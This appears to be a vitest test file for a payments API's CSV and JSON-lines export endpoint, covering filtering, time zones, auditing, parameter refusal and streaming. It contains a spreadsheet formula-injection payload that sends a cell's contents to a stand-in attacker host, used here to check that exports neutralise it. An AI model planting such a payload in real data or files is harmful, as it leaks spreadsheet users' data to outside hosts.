import { randomBytes } from "node:crypto";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { adjustBalance } from "@/lib/books/ledger/adjust-balance";
import { getDb } from "@/lib/platform/db/client";
import { execute, query } from "@/lib/platform/db/query";
import { exportStream } from "@/lib/reports/exports/export-stream";
import { EXPORTS } from "@/lib/reports/exports/export-sources";
import { api, expectError, newKey, newMerchant, type TestMerchant, webUrls } from "../helpers/api";
import { creditedPayment } from "../helpers/credited-payment";

// GET /v1/exports/{resource} (docs/API.md#exports): what the list pages through for the same filter, in one
// streamed CSV or JSON-lines answer, safe to open in a spreadsheet, audited.
let m: TestMerchant;
const made: Record<string, string> = {};
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

async function download(path: string, key = m.sandboxKey) {
  const reply = await fetch(`${webUrls()[0]}${path}`, { headers: { Authorization: `Bearer ${key}` } });
  return { status: reply.status, headers: reply.headers, text: await reply.text() };
}

const listIds = async (path: string) => {
  const reply = await api("GET", path, { key: m.sandboxKey });
  expect(reply.status, reply.text).toBe(200);
  return reply.json.data.map((o: { id: string }) => o.id);
};

beforeAll(async () => {
  m = await newMerchant("Exports");
  made.credited = await creditedPayment(m, ["5.000000"]);
  const create = async (body: Record<string, unknown>) => {
    const reply = await api("POST", "/v1/payments", { key: m.sandboxKey, body: { amount: "3.000000", ...body } });
    expect(reply.status, reply.text).toBe(200);
    return reply.json.id as string;
  };
  made.formula = await create({ chain: "eth", description: FORMULA, metadata: { note: FORMULA, order_id: "X-1" } });
  made.tron = await create({ chain: "tron", metadata: { order_id: "X-2" } });
  made.november = await create({ chain: "eth" });
  await execute(getDb(), "update payments set created_at = '2026-11-15T12:00:00Z' where id = $1", [made.november]);
  const refund = await api("POST", "/v1/refunds", {
    key: m.sandboxKey,
    body: { payment: made.credited, amount: "1.000000" },
  });
  expect(refund.status, refund.text).toBe(200);
  made.refund = refund.json.id;
  const payout = await api("POST", "/v1/payouts", {
    key: (await newKey(m.id, "sandbox")).secret,
    body: { chain: "eth", to_address: `0x${randomBytes(20).toString("hex")}`, amount: "0.500000" },
  });
  expect(payout.status, payout.text).toBe(200);
  made.payout = payout.json.id;
  await adjustBalance(getDb(), {
    merchantId: m.id,
    mode: "sandbox",
    chain: "polygon",
    amount: 7_000_000n,
    reason: "x",
  });
});

describe("GET /v1/exports/…", () => {
  it("payments as CSV: a header row, then exactly the list's payments for the same filter, newest first", async () => {
    const file = await download("/v1/exports/payments?chain=eth");
    expect(file.status, file.text).toBe(200);
    expect(file.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    // Streamed as it is made (chunked), never gathered first to be measured or compressed.
    expect([file.headers.get("content-length"), file.headers.get("content-encoding")]).toEqual([null, null]);
    expect(file.headers.get("transfer-encoding")).toBe("chunked");
    expect(file.headers.get("content-disposition")).toMatch(
      /^attachment; filename="payments-sandbox-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const [header, ...rows] = parse(file.text) as string[][];
    expect(header).toEqual(EXPORTS.payments.columns);
    expect(rows.map((r) => r[0])).toEqual(await listIds("/v1/payments?chain=eth"));
    expect(rows.map((r) => r[0])).toEqual([made.formula, made.credited, made.november]);
    const credited = Object.fromEntries(header!.map((h, i) => [h, rows[1]![i]]));
    const one = (await api("GET", `/v1/payments/${made.credited}`, { key: m.sandboxKey })).json;
    expect(credited).toMatchObject({
      status: "confirmed",
      amount: one.amount,
      amount_received: "5.000000",
      amount_refunded: one.amount_refunded,
      deposit_address: one.deposit_address,
      tx_hash: one.tx_hash ?? "",
      created_at: one.created_at,
      metadata: "{}",
    });
    const filtered = parse((await download("/v1/exports/payments?metadata[order_id]=X-2")).text) as string[][];
    expect(filtered.slice(1).map((r) => r[0])).toEqual([made.tron]);
    const november = await download("/v1/exports/payments?created[gte]=2026-11-01&created[lt]=2026-12-01");
    expect((parse(november.text) as string[][]).slice(1).map((r) => r[0])).toEqual([made.november]);
  });

  it("neutralises a formula in a text cell; metadata is its JSON; times in a chosen time zone", async () => {
    const file = await download("/v1/exports/payments?metadata[order_id]=X-1&timezone=Asia/Tokyo");
    const [header, row] = parse(file.text) as string[][];
    const cell = Object.fromEntries(header!.map((h, i) => [h, row![i]!]));
    expect(cell.description).toBe(`'${FORMULA}`);
    expect(JSON.parse(cell.metadata!)).toEqual({ note: FORMULA, order_id: "X-1" });
    expect(cell.metadata!.startsWith("{")).toBe(true);
    for (const value of Object.values(cell)) expect(value).not.toMatch(/^[=+@\t\r]/);
    const one = (await api("GET", `/v1/payments/${made.formula}`, { key: m.sandboxKey })).json;
    expect(cell.created_at).toMatch(/\+09:00$/);
    expect(Date.parse(cell.created_at!)).toBe(Date.parse(one.created_at));
    const november = parse((await download("/v1/exports/payments?chain=eth&timezone=America/New_York")).text);
    expect((november as string[][]).at(-1)![1]).toBe("2026-11-15T07:00:00.000-05:00");
  });

  it("JSON lines: one API object per line, as GET gives it; payouts, refunds, balance transactions", async () => {
    const file = await download("/v1/exports/payments?format=jsonl&chain=tron");
    expect(file.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    const lines = file.text
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(lines).toEqual([(await api("GET", `/v1/payments/${made.tron}`, { key: m.sandboxKey })).json]);
    const refunds = parse((await download("/v1/exports/refunds")).text) as string[][];
    expect(refunds.slice(1).map((r) => [r[0], r[4], r[5]])).toEqual([[made.refund, made.credited, "1.000000"]]);
    expect(refunds[0]).not.toContain("claim_url");
    const payouts = (await download("/v1/exports/payouts?format=jsonl")).text.trimEnd().split("\n");
    expect(payouts.map((l) => JSON.parse(l).id)).toEqual([made.payout]);
    const txns = parse((await download("/v1/exports/balance_transactions")).text) as string[][];
    const listed = (await api("GET", "/v1/balance_transactions", { key: m.sandboxKey })).json.data;
    expect(txns.slice(1)).toEqual(
      listed.map((t: Record<string, string>) => EXPORTS.balance_transactions.columns.map((c) => t[c])),
    );
    expect(txns.slice(1).map((r) => r[2])).toEqual(["adjustment", "payout", "refund", "payment"]);
  });

  it("is audited: who, which list, the filter, how many rows", async () => {
    const key = await newKey(m.id, "sandbox", ["payments:read"]);
    const file = await download("/v1/exports/payments?chain=eth&format=jsonl", key.secret);
    expect(file.status).toBe(200);
    let entry: { details: Record<string, unknown> } | undefined;
    for (let i = 0; i < 50 && !entry; i++) {
      [entry] = await query<{ details: Record<string, unknown> }>(
        getDb(),
        "select details from audit_log where merchant_id = $1 and action = 'export.payments' " +
          "and details->>'api_key' = $2 and details->>'rows' is not null",
        [m.id, key.id],
      );
      if (!entry) await new Promise((r) => setTimeout(r, 100));
    }
    expect(entry?.details).toEqual({
      mode: "sandbox",
      format: "jsonl",
      timezone: "UTC",
      filters: { chain: "eth" },
      rows: 3,
      completed: true,
      api_key: key.id,
    });
  });

  it("refuses what the list refuses, a bad format or zone, paging, a key without the scope", async () => {
    const refused = async (path: string, param: string) => {
      const file = await download(path);
      expect(file.status, file.text).toBe(400);
      expect(JSON.parse(file.text).error).toMatchObject({ type: "invalid_request_error", param });
    };
    await refused("/v1/exports/payments?format=xlsx", "format");
    await refused("/v1/exports/payments?timezone=Mars/Olympus", "timezone");
    await refused("/v1/exports/payments?created[gte]=soon", "created[gte]");
    await refused("/v1/exports/payments?limit=10", "limit");
    await refused("/v1/exports/balance_transactions?type=fee", "type");
    const paymentsOnly = (await newKey(m.id, "sandbox", ["payments:read"])).secret;
    expectError(await api("GET", "/v1/exports/payouts", { key: paymentsOnly }), "forbidden", 403);
  });

  it("streams batch after batch from the list's cursor: every row once, in order", async () => {
    const source = exportStream(
      getDb(),
      { merchantId: m.id, mode: "sandbox" },
      { resource: "payments", filters: {}, format: "jsonl", baseUrl: "http://localhost", batchSize: 2 },
    );
    const text = await new Response(source).text();
    const ids = text
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l).id);
    expect(ids).toEqual(await listIds("/v1/payments?limit=100"));
    expect(ids).toHaveLength(4);
  });
});
